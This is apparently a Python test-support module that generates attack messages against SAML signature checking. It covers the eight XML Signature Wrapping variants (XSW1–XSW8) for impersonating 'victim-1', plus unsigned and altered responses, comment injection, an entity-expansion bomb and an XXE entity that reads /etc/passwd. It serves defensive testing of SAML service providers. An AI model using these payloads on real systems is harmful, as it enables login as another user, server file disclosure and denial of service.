"""Attacks on a signed SAML response that need no key: what anybody can send who once had one.

XSW1 to XSW8 are those of Somorovsky and others, “On Breaking SAML: Be Whoever You Want to Be”
(USENIX Security 2012), numbered as SAML Raider numbers them. Each moves what was signed to where
the signature still finds it, and puts something else where the reader looks.
"""

from __future__ import annotations

from collections.abc import Callable, Iterator
from xml.dom import minidom

from tests.support.saml.messages import ASSERTION, PROTOCOL, SIG

#: Who the attacker wants to be. The subject keeps its length, as some tools compare sizes.
VICTIM = "victim-1"
Document = minidom.Document
Element = minidom.Element


def _only(parent: Element | Document, namespace: str, name: str) -> Element:
    return parent.getElementsByTagNameNS(namespace, name)[0]


def _parts(xml: str) -> tuple[Document, Element, Element]:
    document = minidom.parseString(xml)
    return document, document.documentElement, _only(document, ASSERTION, "Assertion")


def _signature(element: Element) -> Element:
    return next(
        each
        for each in element.childNodes
        if getattr(each, "localName", "") == "Signature" and each.namespaceURI == SIG
    )


def _evil(element: Element, *, same_id: bool, keep_signature: bool = False) -> Element:
    """Return a copy that says it is the victim, with another id unless `same_id`."""
    copy = element.cloneNode(True)
    if not keep_signature:
        copy.removeChild(_signature(copy))
    _name(copy)
    for each in [copy, *copy.getElementsByTagNameNS(ASSERTION, "Assertion")]:
        if not same_id and each.hasAttribute("ID"):
            each.setAttribute("ID", "_evil" + each.getAttribute("ID")[5:])
    return copy


def _name(element: Element) -> None:
    _only(element, ASSERTION, "NameID").firstChild.data = VICTIM
    for value in element.getElementsByTagNameNS(ASSERTION, "AttributeValue"):
        if value.firstChild is not None and "@" in value.firstChild.data:
            value.firstChild.data = "victim@example.com"


def _bare(element: Element) -> Element:
    """Return a copy without its signature."""
    copy = element.cloneNode(True)
    copy.removeChild(_signature(copy))
    return copy


def _holder(document: Document, name: str, namespace: str, prefix: str) -> Element:
    made = document.createElementNS(namespace, f"{prefix}:{name}")
    made.setAttribute(f"xmlns:{prefix}", namespace)  # which not every provider's message declares
    return made


def xsw1(xml: str, same_id: bool) -> str:
    """Of a signed response: the original stands in the signature of the evil one."""
    document, root, _ = _parts(xml)
    original, evil = _bare(root), _evil(root, same_id=same_id, keep_signature=True)
    _signature(evil).appendChild(original)
    document.replaceChild(evil, root)
    return document.toxml()


def xsw2(xml: str, same_id: bool) -> str:
    """Of a signed response: the original stands before the signature, detached from it."""
    document, root, _ = _parts(xml)
    original, evil = _bare(root), _evil(root, same_id=same_id, keep_signature=True)
    evil.insertBefore(original, _signature(evil))
    document.replaceChild(evil, root)
    return document.toxml()


def xsw3(xml: str, same_id: bool) -> str:
    """An evil assertion stands before the signed one."""
    document, root, assertion = _parts(xml)
    root.insertBefore(_evil(assertion, same_id=same_id), assertion)
    return document.toxml()


def xsw4(xml: str, same_id: bool) -> str:
    """An evil assertion holds the signed one."""
    document, root, assertion = _parts(xml)
    evil = _evil(assertion, same_id=same_id)
    root.replaceChild(evil, assertion)
    evil.appendChild(assertion)
    return document.toxml()


def xsw5(xml: str, same_id: bool) -> str:
    """The evil assertion keeps the signature; the original, without it, stands at the end."""
    document, root, assertion = _parts(xml)
    original = _bare(assertion)
    root.replaceChild(_evil(assertion, same_id=same_id, keep_signature=True), assertion)
    root.appendChild(original)
    return document.toxml()


def xsw6(xml: str, same_id: bool) -> str:
    """The evil assertion keeps the signature, and the original stands in that."""
    document, root, assertion = _parts(xml)
    evil = _evil(assertion, same_id=same_id, keep_signature=True)
    _signature(evil).appendChild(_bare(assertion))
    root.replaceChild(evil, assertion)
    return document.toxml()


def xsw7(xml: str, same_id: bool) -> str:
    """The evil assertion stands in the extensions, which may hold anything."""
    document, root, assertion = _parts(xml)
    holder = _holder(document, "Extensions", PROTOCOL, "samlp")
    holder.appendChild(_evil(assertion, same_id=same_id))
    status = _only(root, PROTOCOL, "Status")
    root.insertBefore(holder, status)
    return document.toxml()


def xsw8(xml: str, same_id: bool) -> str:
    """The original stands in an object of the evil assertion's signature."""
    document, root, assertion = _parts(xml)
    evil = _evil(assertion, same_id=same_id, keep_signature=True)
    holder = _holder(document, "Object", SIG, "ds")
    holder.appendChild(_bare(assertion))
    _signature(evil).appendChild(holder)
    root.replaceChild(evil, assertion)
    return document.toxml()


Attack = Callable[[str, bool], str]
WRAPPINGS: dict[str, Attack] = {
    f"XSW{number}": attack
    for number, attack in enumerate((xsw1, xsw2, xsw3, xsw4, xsw5, xsw6, xsw7, xsw8), 1)
}


def wrapped(assertion_signed: str, both_signed: str) -> Iterator[tuple[str, str]]:
    """Yield each wrapping, with the evil part's id new and as it was: (name, message).

    Args:
        assertion_signed: a response of which only the assertion is signed.
        both_signed: one that is signed as a whole, too.
    """
    for name, attack in WRAPPINGS.items():
        for same_id in (False, True):
            of = both_signed if name in ("XSW1", "XSW2") else assertion_signed
            yield f"{name}, {'the same' if same_id else 'another'} id", attack(of, same_id)
    for name in ("XSW1", "XSW2"):
        yield f"{name}, its assertion bare", _without_inner(WRAPPINGS[name](both_signed, False))
    for name in ("XSW3", "XSW4", "XSW5", "XSW6", "XSW7", "XSW8"):
        yield f"{name}, of a response that is signed", WRAPPINGS[name](both_signed, False)


def _without_inner(xml: str) -> str:
    """Take the signature out of the assertion that a careless reader meets."""
    document, root, _ = _parts(xml)
    evil = next(each for each in root.childNodes if each.localName == "Assertion")
    evil.removeChild(_signature(evil))
    return document.toxml()


# --- Without wrapping ---


def unsigned(xml: str) -> str:
    """No signature at all."""
    document, root, assertion = _parts(xml)
    assertion.removeChild(_signature(assertion))
    _name(assertion)
    return document.toxml()


def changed(xml: str) -> str:
    """Signed, then changed."""
    document, _, assertion = _parts(xml)
    _name(assertion)
    return document.toxml()


def commented(xml: str, before: str) -> str:
    """Split the subject by a comment: the signature holds, careless readers see its beginning."""
    return xml.replace(before, before[: len(VICTIM)] + "<!-- -->" + before[len(VICTIM) :], 1)


def with_document_type(xml: str) -> str:
    """A document type with an entity in the place of the subject's name."""
    start = xml.index("<samlp:Response")
    return (
        '<!DOCTYPE r [<!ENTITY who "' + VICTIM + '">]>' + xml[start:].replace("person-1", "&who;")
    )


def bomb(xml: str) -> str:
    """Entities that grow tenfold nine times."""
    start = xml.index("<samlp:Response")
    lines = ['<!ENTITY a0 "xxxxxxxxxx">'] + [
        f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10)
    ]
    return f"<!DOCTYPE r [{''.join(lines)}]>" + xml[start:].replace("person-1", "&a9;")


def outside_entity(xml: str) -> str:
    """An entity that reads a file of the server."""
    start = xml.index("<samlp:Response")
    return (
        '<!DOCTYPE r [<!ENTITY f SYSTEM "file:///etc/passwd">]>'
        + xml[start:].replace("person-1", "&f;")
    )  # fmt: skip
